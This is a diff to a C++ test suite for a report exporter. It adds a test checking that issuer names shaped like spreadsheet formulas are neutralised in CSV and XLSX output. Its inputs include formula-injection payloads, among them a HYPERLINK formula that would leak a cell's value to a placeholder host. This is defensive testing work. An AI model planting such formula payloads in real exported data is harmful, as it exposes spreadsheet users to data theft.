@@ -108,6 +108,16 @@ QString brl(double v) {
     return reportformat::money(v);
 }
 
+// The fields of the workspace's copy of the list of notes (dtsNotasDestinadas).
+void createNotesList(TClientDataSet& ds) {
+    for (const char* f : {"IDNOTA", "NRNOTAFISC", "NMRAZSOCEMIT", "NRINSJURNFORIG", "CDSERIE",
+                          "CDFILIAL", "NRLANCTONF", "IDSTATUSMANIF"})
+        ds.AddField({QLatin1String(f), FieldType::String, 250, false});
+    ds.AddField({QStringLiteral("DTEMISSAO"), FieldType::DateTime, 0, false});
+    ds.AddField({QStringLiteral("VRNOTAFISC"), FieldType::Float, 0, false});
+    ds.CreateDataSet();
+}
+
 // Adds a note without a numeric number (kept as "S/N") whose issuer came without a name: a copy
 // of the latest open note of company 01, with the same issue and authorisation moments, so every
 // report's ordering meets an empty number and an empty name among otherwise equal keys. An
@@ -220,6 +230,7 @@ class TestReports : public QObject {
     void previewShowsTheSamePagesAsThePdf();
     void spreadsheetCellsAreTyped();
     void csvOpensInABrazilianSpreadsheet();
+    void textsThatLookLikeFormulasStayTexts();
     void cancelledExportsLeaveNoFile();
 
     void reportsGiveTheSameRowsOnPostgres_data();
@@ -286,12 +297,7 @@ void TestReports::initTestCase() {
         m_contaNotas.FieldByName(QStringLiteral("Quantidade")).SetAsString(QLatin1String(count));
         m_contaNotas.Post();
     }
-    for (const char* f : {"IDNOTA", "NRNOTAFISC", "NMRAZSOCEMIT", "NRINSJURNFORIG", "CDSERIE",
-                          "CDFILIAL", "NRLANCTONF", "IDSTATUSMANIF"})
-        m_notas.AddField({QLatin1String(f), FieldType::String, 250, false});
-    m_notas.AddField({QStringLiteral("DTEMISSAO"), FieldType::DateTime, 0, false});
-    m_notas.AddField({QStringLiteral("VRNOTAFISC"), FieldType::Float, 0, false});
-    m_notas.CreateDataSet();
+    createNotesList(m_notas);
     struct Nota {
         const char* grupo;
         const char* numero;
@@ -820,6 +826,68 @@ void TestReports::csvOpensInABrazilianSpreadsheet() {
              QStringLiteral("30/11/2026;000000012;1;\"Pão; Café \"\"Bom\"\"\";123.456.789-09;;;"
                             "Ciência da Operação;99,90"));
     QCOMPARE(lines[list + 2].section(u';', 8), QStringLiteral("1500,25"));
+}
+
+void TestReports::textsThatLookLikeFormulasStayTexts() {
+    // Issuer names and registrations as they come in the notes, some shaped to run as formulas
+    // in the spreadsheet that opens the export; the amounts are negative.
+    const QList<std::pair<QString, QString>> issuers = {
+        {QStringLiteral("=HYPERLINK(\"http://exemplo.invalid/?d=\"&A1;\"Ver nota\")"),
+         QStringLiteral("48210375000102")},
+        {QStringLiteral("-Teste"), QStringLiteral("-2+3")},
+        {QStringLiteral("+55 11 3333-4444"), QStringLiteral("@A1")},
+        {QStringLiteral("@SOMA(1;2)"), QStringLiteral("=1")},
+        {QStringLiteral("\tTeste"), QStringLiteral("12345678909")},
+        {QStringLiteral("\r=1+1"), QStringLiteral("12345678909")},
+        {QStringLiteral("Ferragens São José - Filial"), QStringLiteral("12345678909")},
+    };
+    TClientDataSet notas;
+    createNotesList(notas);
+    for (int i = 0; i < issuers.size(); ++i) {
+        notas.Append();
+        notas.FieldByName(QStringLiteral("IDNOTA")).SetAsString(QStringLiteral("2"));
+        notas.FieldByName(QStringLiteral("NRNOTAFISC")).SetAsString(QString::number(100 + i));
+        notas.FieldByName(QStringLiteral("NMRAZSOCEMIT")).SetAsString(issuers[i].first);
+        notas.FieldByName(QStringLiteral("NRINSJURNFORIG")).SetAsString(issuers[i].second);
+        notas.FieldByName(QStringLiteral("IDSTATUSMANIF")).SetAsString(QStringLiteral("4"));
+        notas.FieldByName(QStringLiteral("DTEMISSAO"))
+            .SetAsDateTime(QDateTime(QDate(2026, 11, 30), QTime(10, 0)));
+        notas.FieldByName(QStringLiteral("VRNOTAFISC")).SetAsFloat(-12.5 - i);
+        notas.Post();
+    }
+    TReportDesignerDialog engine;
+    engine.AddDataSet(QStringLiteral("dtsContaNotas"), &m_contaNotas);
+    engine.AddDataSet(QStringLiteral("dtsNotasDestinadas"), &notas);
+    engine.BeforeGetQueryParams = [](TReportParams& params, bool&) { allCriteria(params); };
+
+    const QString csv = file("DFE58304.csv");
+    QVERIFY(engine.Execute(QStringLiteral("DFE58304"), ReportOutput::Csv, csv));
+    QFile f(csv);
+    QVERIFY(f.open(QIODevice::ReadOnly));
+    const QStringList lines = QString::fromUtf8(f.readAll().mid(3)).split(QStringLiteral("\r\n"));
+    const QStringList expected = {
+        "30/11/2026;100;;\"'=HYPERLINK(\"\"http://exemplo.invalid/?d=\"\"&A1;\"\"Ver "
+        "nota\"\")\";48.210.375/0001-02;;;Ciência da Operação;-12,50",
+        "30/11/2026;101;;'-Teste;'-2+3;;;Ciência da Operação;-13,50",
+        "30/11/2026;102;;'+55 11 3333-4444;'@A1;;;Ciência da Operação;-14,50",
+        "30/11/2026;103;;\"'@SOMA(1;2)\";'=1;;;Ciência da Operação;-15,50",
+        "30/11/2026;104;;'\tTeste;123.456.789-09;;;Ciência da Operação;-16,50",
+        "30/11/2026;105;;\"'\r=1+1\";123.456.789-09;;;Ciência da Operação;-17,50",
+        "30/11/2026;106;;Ferragens São José - Filial;123.456.789-09;;;Ciência da Operação;-18,50",
+    };
+    const qsizetype header = lines.indexOf(QStringLiteral(
+        "Emissão;Número;Série;Emitente;CNPJ/CPF;Filial;Lançamento;Manifestação;Valor"));
+    QVERIFY(header > 0);
+    QCOMPARE(lines.mid(header + 1, expected.size()), expected);
+
+    // The spreadsheet's text cells hold the names as they are: a text cell is never a formula.
+    const QString xlsx = file("DFE58304.xlsx");
+    QVERIFY(engine.Execute(QStringLiteral("DFE58304"), ReportOutput::Xlsx, xlsx));
+    const QString sheet =
+        QString::fromUtf8(unzipped(xlsx, QStringLiteral("xl/worksheets/sheet2.xml")));
+    QVERIFY(sheet.contains(QStringLiteral("<t>-Teste</t>")));
+    QVERIFY(sheet.contains(QStringLiteral("=HYPERLINK(")));
+    QVERIFY(!sheet.contains(QStringLiteral("<f>")));
 }
 
 void TestReports::cancelledExportsLeaveNoFile() {
